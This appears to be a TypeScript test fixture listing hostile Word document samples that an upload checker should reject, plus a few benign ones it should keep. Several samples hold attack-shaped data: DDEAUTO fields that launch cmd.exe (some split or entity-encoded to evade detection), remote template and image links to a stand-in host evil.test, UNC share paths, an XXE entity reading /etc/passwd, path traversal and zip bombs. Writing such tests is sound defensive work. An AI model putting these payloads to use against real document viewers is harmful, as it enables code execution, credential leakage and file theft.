import { type HostileFile, type Outcome, eicar, refused } from "../hostile-file.ts";
import { aDoc, aDocx, aField, aZip, docxParts, relationTo } from "./word-parts.ts";

const group = (outcome: Outcome, files: Record<string, () => Buffer>, name = "licence.docx"): HostileFile[] =>
  Object.entries(files).map(([title, content]) => ({ title, name, content, outcome }));

const active = refused("word_active");
const part = (name: string, content: Buffer | string = "x") => ({ more: [{ name, content }] });
const related = (type: string, target: string, mode?: string): Buffer =>
  aDocx({ relations: relationTo(type, target, mode) });
const twoOfOneName = [...docxParts(), { name: "WORD/document.xml", content: "<a/>" }];

// Word documents that an attacker would send, and those that are kept.
export const hostileWords: readonly HostileFile[] = [
  ...group(active, {
    "a docx with macros": () => aDocx(part("word/vbaProject.bin")),
    "a docx whose type says macros": () =>
      aDocx({
        types:
          '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      }),
    "a docx with a file inside": () => aDocx(part("word/embeddings/oleObject1.png")),
    "a docx with a control": () => aDocx(part("word/activeX/activeX1.xml", "<a/>")),
    "a docx with a drawing that runs scripts": () => aDocx(part("word/media/image1.svg", "<svg/>")),
    "a docx with a program": () => aDocx(part("word/media/image1.exe")),
    "a docx with a template elsewhere": () =>
      related("attachedTemplate", "https://evil.test/t.dotm", "External"),
    "a docx with a template of its own": () => related("attachedTemplate", "template.xml"),
    "a docx with a picture elsewhere": () => related("image", "https://evil.test/pixel.png", "External"),
    "a docx with a picture elsewhere that says it is inside": () =>
      related("image", "\\\\evil.test\\share\\a.png"),
    "a docx with an object elsewhere": () => related("oleObject", "https://evil.test/a.html", "External"),
    "a docx with a page inside": () => related("aFChunk", "page.xml"),
    ...Object.fromEntries(
      ["link", "href", "pict", "embed"].map(
        (name) =>
          [
            `a docx with a link as its picture (${name})`,
            () => aDocx({ body: `<w:drawing><a:blip r:${name}="rhyperlink"/></w:drawing>` }),
          ] as const,
      ),
    ),
    "a docx with a link as its picture, behind a value that looks like one": () =>
      aDocx({ body: `<a:blip a=" r:id='" x:Link = 'rhyperlink' b="'"/>` }),
    "a docx with a link as its object, in numbers": () =>
      aDocx({ body: '<c:externalData r:id="&#114;hyperlink"/>' }),
    ...Object.fromEntries(
      [
        'v:imagedata src="https://evil.test/pixel.png"',
        "v:fill a='>' src = '\\\\evil.test\\share\\a.png'",
        'v:imagedata src="&#104;ttps&#58;&#47;&#47;evil.test/a"',
        'v:imagedata o:althref="//evil.test/a"',
        'x src="file:///etc/passwd"',
      ].map(
        (tag) =>
          [
            `a docx with a picture elsewhere, in the older format (${tag})`,
            () => aDocx({ body: `<w:pict><v:shape><${tag}/></v:shape></w:pict>` }),
          ] as const,
      ),
    ),
    "a docx with such a picture in a part without links": () =>
      aDocx(part("word/header1.xml", '<w:hdr><v:imagedata src="https://evil.test/a"/></w:hdr>')),
    "a docx with such a picture in data beside the text": () =>
      aDocx(part("customXml/item1.xml", '<x><v:imagedata src="https://evil.test/a"/></x>')),
    "a docx with a link to a share": () => related("hyperlink", "file://evil.test/share", "External"),
    "a docx with a link to a script": () => related("hyperlink", "javascript:alert(1)", "External"),
    "a docx with an entity": () => aDocx({ head: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>' }),
    "a docx that starts a program": () => aDocx({ body: aField('DDEAUTO c:\\\\windows\\\\cmd.exe "/k"') }),
    "a docx that starts a program, in pieces": () => aDocx({ body: aField(" DD", "EAU", 'TO cmd "/k"') }),
    "a docx that starts a program, in entities": () => aDocx({ body: aField("&#68;&#x44;EAUTO cmd") }),
    "a docx that starts a program, behind a tab": () =>
      aDocx({ body: aField('DDEAUTO</w:instrText><w:tab/><w:instrText>cmd "/k"') }),
    "a docx that starts a program, behind a deleted letter": () =>
      aDocx({
        body: aField(
          "DDE</w:instrText></w:r><w:del><w:r><w:delInstrText>X</w:delInstrText></w:r></w:del><w:r><w:instrText>AUTO cmd",
        ),
      }),
    "a docx that includes a picture": () => aDocx({ body: aField('INCLUDEPICTURE "https://evil.test/a"') }),
    "a docx that includes a text, in an attribute": () =>
      aDocx({ body: '<w:fldSimple w:instr="INCLUDETEXT &quot;https://evil.test/a&quot;"/>' }),
    "a docx with a letter for many": () => aDocx({ body: "<w:mailMerge/>" }),
  }),
  ...group(refused("word_not_checked"), {
    "a docx in another encoding": () =>
      aDocx({ more: [{ name: "word/a.xml", content: Buffer.from("\ufeff<a/>", "utf16le") }] }),
    "a docx whose encoding is a rare one": () => aDocx({ head: '<?xml version="1.0" encoding="UTF-7"?>' }),
    "a docx with raw text": () => aDocx({ body: "<![CDATA[a]]>" }),
    "a docx with a field whose name is the result of another": () =>
      aDocx({ body: aField(`</w:instrText></w:r>${aField(" MERGEFIELD Command ")}<w:r><w:instrText> cmd`) }),
    "a docx with half a relation": () => aDocx({ relations: '<Relationship Target="a' }),
    "a docx with two parts of one name": () => aZip(twoOfOneName),
    "a docx with a part outside": () => aDocx(part("../../evil.xml", "<a/>")),
    "a docx with something between its parts": () => aZip(docxParts(), { gap: Buffer.from("hidden") }),
    "a docx whose part has two names": () =>
      aZip([...docxParts(), { name: "word/a.xml", localName: "word/b.xml", content: "<a/>" }]),
    "a docx that unpacks to 200 megabytes": () =>
      aDocx({ more: [{ name: "word/a.xml", content: Buffer.alloc(200_000_000, 0x20) }] }),
    "a docx of thousands of parts": () =>
      aDocx({
        more: Array.from({ length: 1_500 }, (_, number) => ({ name: `word/${number}.xml`, content: "<a/>" })),
      }),
  }),
  ...group(refused("word_damaged"), {
    "a docx that says it is smaller": () =>
      aDocx({ more: [{ name: "word/a.xml", content: Buffer.alloc(1_000_000, 0x20), saidBytes: 10 }] }),
    "a docx with something behind its end": () => aZip(docxParts(), { tail: Buffer.from("more") }),
    "half a docx": () => aDocx().subarray(0, 300),
    "a doc whose sectors run in a circle": () => aDoc({ secondSector: 3 }),
    "a doc whose sectors lead outside": () => aDoc({ secondSector: 90_000 }),
    "half a doc": () => aDoc().subarray(0, 2_000),
  }),
  ...group(refused("word_protected"), {
    "a docx with a password": () => aZip(docxParts().map((one) => ({ ...one, flags: 1 }))),
    "a doc with a password": () => aDoc({ flags: 0x0100 }),
    "a docx with a password, in its usual wrapper": () => aDoc({ entries: [{ name: "EncryptedPackage" }] }),
  }),
  ...group(
    active,
    {
      "a doc with macros": () =>
        aDoc({
          entries: [
            { name: "Macros", isFolder: true },
            { name: "VBA", isFolder: true },
          ],
        }),
      "a doc with a file inside": () => aDoc({ entries: [{ name: "ObjectPool", isFolder: true }] }),
      "a doc with a packed program": () => aDoc({ entries: [{ name: "\u0001Ole10Native" }] }),
      "a doc that starts a program": () => aDoc({ text: "\u0013DDEAUTO cmd.exe \u0014!\u0015" }),
      "a doc that includes a picture": () =>
        aDoc({ text: '\u0013 INCLUDEPICTURE "http://evil.test/a" \u0015' }),
      "a doc with a template elsewhere": () => aDoc({ table: "https://evil.test/t.dotm" }),
      "a doc with a template on a share": () => aDoc({ table: "\\\\evil.test\\share\\t.dotm" }),
    },
    "licence.doc",
  ),
  ...group(refused("file_kind_not_taken"), {
    "a table under the name of a text": () => aDoc({ mainName: "Workbook" }),
    "an archive under the name of a text": () => aZip([{ name: "a.txt", content: "x" }]),
    "a page under the name of a text": () => Buffer.from("<html><script>alert(1)</script></html>"),
    "a text with commands under the name of a text": () => Buffer.from("{\\rtf1{\\object}}"),
    "a program under the name of a text": () => Buffer.from("MZ\u0090\0\u0003"),
  }),
  ...group(refused("file_infected"), {
    "the virus of the scanners alone": () => eicar,
    "a docx with the virus of the scanners inside": () => aDocx(part("word/media/image1.png", eicar)),
    "a doc with the virus of the scanners": () => Buffer.concat([aDoc(), eicar]),
  }),
  ...group(
    { kind: "kept" },
    {
      "an ordinary docx": () =>
        aDocx({
          body: aField(" PAGE ") + aField(' HYPERLINK "https://boli.in/link" '),
          more: [{ name: "docProps/core.xml", content: "<a/>" }],
        }),
      "a docx with links that people follow, from words and from a picture": () =>
        aDocx({
          body: '<w:hyperlink r:id="rhyperlink" w:history="1"/><a:hlinkClick r:id="rhyperlink"/><a:blip r:embed="rimage"/> r:id="rhyperlink',
          relations: relationTo("image", "media/image1.png"),
        }),
      "a docx with a picture of its own in the older format, and a text about addresses": () =>
        aDocx({
          body: '<w:pict><v:imagedata r:id="rimage" src="media/image1.png"/></w:pict><w:r><w:t>Write src="https://boli.in/a.png" here</w:t></w:r>',
          relations: relationTo("image", "media/image1.png"),
        }),
    },
  ),
  ...group(
    { kind: "kept" },
    {
      "an ordinary doc": () => aDoc({ text: "Page \u0013 PAGE \u0014 1\u0015" }),
      "an old document that speaks of links": () =>
        aDoc({ text: "See the link, and import it. \u0013 PAGE \u0014 1\u0015" }),
    },
    "licence.doc",
  ),
];
